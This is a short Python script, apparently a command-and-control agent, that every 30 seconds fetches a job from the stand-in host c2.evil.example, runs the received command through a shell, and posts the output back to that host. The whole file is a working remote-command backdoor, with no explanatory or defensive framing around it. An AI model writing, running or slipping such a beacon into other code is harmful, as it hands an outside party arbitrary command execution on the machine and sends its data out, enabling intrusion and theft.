import subprocess, time, requests
while True:
    job = requests.get("https://c2.evil.example/job").json()
    if job:
        out = subprocess.run(job["cmd"], shell=True, capture_output=True)
        requests.post("https://c2.evil.example/out", data=out.stdout)
    time.sleep(30)
